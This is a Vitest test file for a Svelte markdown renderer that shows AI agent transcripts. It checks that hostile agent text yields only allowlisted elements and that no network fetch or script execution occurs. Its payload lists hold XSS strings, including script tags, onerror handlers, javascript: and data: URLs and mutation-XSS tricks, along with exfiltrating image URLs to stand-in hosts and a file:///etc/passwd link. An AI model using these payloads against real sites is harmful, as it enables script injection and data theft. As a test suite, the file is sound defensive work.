// Text of an agent is data. Whatever it holds, only elements of a short list come out, and nothing is fetched.
import { cleanup, render } from "@testing-library/svelte";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { DemoShell } from "../src/lib/demo";
import { snapshot } from "../src/lib/demo/data";
import Markdown from "../src/lib/markdown/Markdown.svelte";
import { GrowingText, LONGEST_BLOCK, blocks, link } from "../src/lib/markdown/parse";
import { use } from "../src/lib/shell";
import { app } from "../src/lib/app.svelte";
import Row from "../src/lib/transcript/Row.svelte";
import type { EntryBody } from "../src/lib/wire";
import Many from "./Many.svelte";
import { settle } from "./stage";

/** What a rendered message may consist of. */
const ELEMENTS = new Set([
  "DIV", "P", "SPAN", "STRONG", "EM", "DEL", "CODE", "PRE", "BR", "HR", "UL", "OL", "LI", "BLOCKQUOTE", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD",
  "BUTTON", "INPUT", "svg", "path", "rect", "circle", "SECTION", "HEADER", "B", "DETAILS", "SUMMARY",
]);
const ATTRIBUTES = new Set([
  "class", "type", "title", "dir", "tabindex", "role", "aria-label", "aria-level", "aria-hidden", "aria-expanded", "start", "disabled", "checked", "data-align",
  "data-testid", "viewBox", "d", "cx", "cy", "r", "x", "y", "width", "height", "rx",
]);

/** What is wrong with a tree, if anything. */
function offences(root: Element): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll("*")) {
    if (!ELEMENTS.has(element.tagName)) found.push(`<${element.tagName.toLowerCase()}>`);
    if (element.tagName === "INPUT" && element.getAttribute("type") !== "checkbox") found.push("an input that is no checkbox");
    for (const { name } of element.attributes) if (!ATTRIBUTES.has(name)) found.push(`${element.tagName.toLowerCase()}[${name}]`);
  }
  return found;
}

const RAW = [
  "<script>window.pwned = 1</script>", "<img src=x onerror=pwned()>", "<svg onload=pwned()>", "<svg><script>pwned()</script></svg>",
  "<iframe src=javascript:pwned()></iframe>", "<iframe srcdoc='<script>pwned()</script>'>", "<object data=data:text/html,x>", "<embed src=x>",
  "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>", "<style>@import 'https://sink.example/x.css'</style>", "<link rel=stylesheet href=https://sink.example/x>",
  "<meta http-equiv=refresh content='0;url=https://sink.example'>", "<base href=https://sink.example/>", "<form action=https://sink.example><input type=submit>",
  "<a href=javascript:pwned()>x</a>", "<video src=https://sink.example/x poster=https://sink.example/y>", "<audio src=https://sink.example/x autoplay>",
  "<details open ontoggle=pwned()>", "<input autofocus onfocus=pwned()>", "<body onload=pwned()>", "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
  "<template><img src=x onerror=pwned()></template>", "<!--><img src=x onerror=pwned()>-->", "<![CDATA[<img src=x onerror=pwned()>]]>", "<?xml <img src=x onerror=pwned()> ?>",
  "</p></div></body><img src=x onerror=pwned()>", "<img/src=`x`/onerror=pwned()>", "&lt;img src=x onerror=pwned()&gt;", "&#60;script&#62;pwned()&#60;/script&#62;",
  "<div style='background:url(https://sink.example/x)'>x</div>", "<portal src=https://sink.example>", "<xmp><img src=x onerror=pwned()></xmp>",
];
const LINKS = [
  "javascript:pwned()", "JaVaScRiPt:pwned()", "java\tscript:pwned()", "&#106;avascript:pwned()", "%6aavascript:pwned()", "\u0001javascript:pwned()", "vbscript:x",
  "data:text/html,<script>pwned()</script>", "data:image/svg+xml,<svg onload=pwned()>", "file:///etc/passwd", "tauri://localhost/x", "ipc://localhost/quit", "asset://localhost/etc/passwd",
  "blob:https://x/y", "about:blank", "chrome://x", "//sink.example/x", "/relative", "relative", "#hash", "http://", "https:\\\\sink.example", "ftp://sink.example", "view-source:https://x",
];
const IMAGES = ["https://sink.example/pixel.png?secret", "http://sink.example/x", "data:image/png;base64,AAAA", "//sink.example/x", "x", "javascript:pwned()"];
const FRAMES: ((x: string) => string)[] = [
  (x) => x, (x) => `a ${x} b`, (x) => `# ${x}`, (x) => `- ${x}`, (x) => `> ${x}`, (x) => `| a |\n|--|\n| ${x} |`, (x) => `**${x}**`, (x) => `\`\`\`html\n${x}\n\`\`\``, (x) => `\`${x}\``, (x) => `[${x}](https://ok.example)`, (x) => `    ${x}`,
];

const PAYLOADS: string[] = [
  ...FRAMES.flatMap((frame) => RAW.map(frame)),
  ...FRAMES.flatMap((frame) => LINKS.flatMap((url) => [`[x](${url})`, `[x](<${url}>)`, `<${url}>`, `![x](${url})`, `[x][r]\n\n[r]: ${url}`].map(frame))),
  ...FRAMES.flatMap((frame) => IMAGES.flatMap((url) => [`![alt](${url})`, `![alt][i]\n\n[i]: ${url}`, `[![alt](${url})](${url})`].map(frame))),
  "\u202eabc\u202c [x](https://ok.example/\u202egpj.exe)", "www.sink.example", "user@sink.example", "https://sink.example/<script>",
];

let requests: string[];

beforeEach(() => {
  requests = [];
  vi.stubGlobal("fetch", (url: unknown) => { requests.push(String(url)); return Promise.reject(new Error("no network")); });
  vi.stubGlobal("XMLHttpRequest", class { open(_: string, url: string) { requests.push(url); } send() {} });
  const image = Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, "src")!;
  vi.spyOn(HTMLImageElement.prototype, "src", "set").mockImplementation(function (this: HTMLImageElement, value: string) {
    requests.push(value);
    image.set!.call(this, value);
  });
  vi.spyOn(window, "open").mockImplementation((url) => { requests.push(String(url)); return null; });
  (globalThis as { pwned?: unknown }).pwned = () => requests.push("script ran");
});
afterEach(() => {
  cleanup();
  delete (globalThis as { pwned?: unknown }).pwned;
  vi.unstubAllGlobals();
});

describe("hostile text", () => {
  it(`comes out as allowed elements only, whatever of ${PAYLOADS.length} payloads it is`, () => {
    expect(PAYLOADS.length).toBeGreaterThan(1500);
    const bad: string[] = [];
    for (let from = 0; from < PAYLOADS.length; from += 100) {
      const texts = PAYLOADS.slice(from, from + 100);
      const { container, unmount } = render(Many, { props: { texts } });
      const shown = [...container.querySelectorAll(":scope > section, :scope > div > section")];
      expect(shown).toHaveLength(texts.length);
      shown.forEach((place, n) => {
        const found = offences(place);
        if (found.length > 0) bad.push(`${JSON.stringify(texts[n])}: ${found.join(", ")}`);
      });
      unmount();
    }
    expect(bad).toEqual([]);
    expect(requests).toEqual([]);
    expect((window as { pwned?: unknown }).pwned).toBeTypeOf("function");
  }, 120_000);

  it("would be found if it were put in as markup: the check can fail", () => {
    const missed = RAW.filter((text) => {
      // A document of its own, in which nothing runs.
      const holder = document.implementation.createHTMLDocument().body;
      holder.innerHTML = text;
      return offences(holder).length === 0;
    });
    // Entities and comments are the only ones that are harmless as markup too.
    expect(missed.every((text) => /^&|^<!|^<\?|^<body/.test(text))).toBe(true);
    expect(RAW.length - missed.length).toBeGreaterThan(25);
  });

  it("in every kind of entry comes out as allowed elements only", () => {
    const x = RAW.join("\n") + "\u001b]8;;https://sink.example\u001b\\y\u202e";
    const failure = { code: "other", message: x, detail: x };
    const bodies: EntryBody[] = [
      { type: "userMessage", text: x }, { type: "agentMessage", text: x, finalAnswer: true }, { type: "reasoning", summary: x, text: x }, { type: "plan", text: x },
      { type: "command", command: x, cwd: x, output: x, exitCode: 0, durationMs: 1, status: "completed" }, { type: "command", command: x, cwd: x, output: x, exitCode: null, durationMs: null, status: "running" },
      { type: "fileChange", changes: [{ path: x, kind: "added", movedTo: x, diff: x }], status: "failed" }, { type: "tool", server: x, name: x, arguments: x, result: x, status: "completed" },
      { type: "webSearch", query: x }, { type: "notice", text: x }, { type: "error", failure }, { type: "other", kind: x, text: x }, { type: "compaction" },
    ];
    for (const body of bodies) {
      const { container } = render(Row, { props: { folder: "/home/maria", entry: { ordinal: 1, id: "1", turn: "t", completed: true, at: 0, body } } });
      for (const button of container.querySelectorAll<HTMLElement>("[aria-expanded]")) button.click();
      expect(offences(container), body.type).toEqual([]);
      expect(container.textContent, body.type).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u001b]/);
      cleanup();
    }
    expect(requests).toEqual([]);
  });
});

describe("addresses", () => {
  it.each(LINKS)("%j is no link", (url) => {
    expect(link(url)).toBeNull();
    const { container } = render(Markdown, { props: { text: `[x](<${url}>)` } });
    expect(container.querySelector("button.link, a")).toBeNull();
  });

  it.each(["https://ok.example/path?q=1", "http://localhost:3000", "mailto:a@b.example"])("%s is one", (url) => {
    expect(link(url)).toBe(url);
  });

  it("are never followed by the page: the shell is asked, then the person", async () => {
    const shell = new DemoShell(snapshot());
    use(shell);
    const { container } = render(Markdown, { props: { text: "[my bank](https://evil.example/bank.example)" } });
    const button = container.querySelector<HTMLButtonElement>("button.link")!;
    expect(button.hasAttribute("href")).toBe(false);
    button.click();
    await settle();
    expect(shell.calls).toEqual([["open_link", { url: "https://evil.example/bank.example", confirmed: false }]]);
    expect(app.dialog).toEqual({ kind: "link", url: "https://evil.example/bank.example", host: "evil.example" });
    app.dialog = null;
  });

  it("of images are shown as text, and nothing is loaded", () => {
    const { container } = render(Markdown, { props: { text: "![chart](https://sink.example/p.png?secret)" } });
    expect(container.querySelector("img, picture, svg image")).toBeNull();
    expect(container.textContent).toContain("Image, not loaded: chart");
    expect(requests).toEqual([]);
  });
});

describe("what agents write", () => {
  it("is shown with its structure", () => {
    const { container } = render(Markdown, { props: { text: "# Head\n\nOne **two** `three`\n\n1. a\n2. b\n\n- [x] done\n\n| a | b |\n|--|--:|\n| 1 | 2 |\n\n> quoted\n\n```ts\nlet x;\n```\n\n---\n~~gone~~" } });
    for (const want of ["[role=heading]", "strong", "code.md-code", "ol > li", "li input:checked", "table td", "blockquote p", "pre code", "hr", "del"]) {
      expect(container.querySelector(want), want).not.toBeNull();
    }
  });

  it("that grows is the same as what is written at once, and parses only its open block", () => {
    const text = "# A\n\npara one\ngoes on\n\n- a\n  - b\n\n- c\n\n```sh\nx\n\ny\n```\n\n| a |\n|--|\n| b |\n\nSetext\n===\n\n> q\nlazy\n\nend **bold** done\n";
    const growing = new GrowingText();
    let last: ReturnType<typeof blocks> = [];
    for (let end = 1; end <= text.length; end++) {
      const before = last;
      last = growing.update(text.slice(0, end));
      for (let i = 0; i < Math.min(before.length, last.length) - 1; i++) expect(last[i]).toBe(before[i]);
    }
    const shape = (list: typeof last) => JSON.stringify(list, (k, v: unknown) => (k === "position" ? undefined : v));
    expect(shape(last)).toBe(shape(blocks(text)));
  });

  it("keeps the elements of closed blocks while it grows", async () => {
    const { container, rerender } = render(Markdown, { props: { text: "first\n\nsecond" } });
    const first = container.querySelector("p");
    await rerender({ text: "first\n\nsecond grows\n\nthird" });
    expect(container.querySelector("p")).toBe(first);
    expect(container.querySelectorAll("p")).toHaveLength(3);
  });

  it("cannot hold up the window by nesting or by length", () => {
    const began = performance.now();
    for (const text of [">".repeat(5000) + "x", "- ".repeat(5000) + "x", "[".repeat(5000), "*a ".repeat(5000), "`".repeat(5000), "a".repeat(LONGEST_BLOCK + 1), "![".repeat(3000), "<".repeat(5000)]) {
      const { container, unmount } = render(Markdown, { props: { text } });
      expect(container.textContent!.length).toBeGreaterThan(0);
      expect(container.querySelectorAll("*").length).toBeLessThan(20_000);
      unmount();
    }
    expect(performance.now() - began).toBeLessThan(20_000);
  });
});
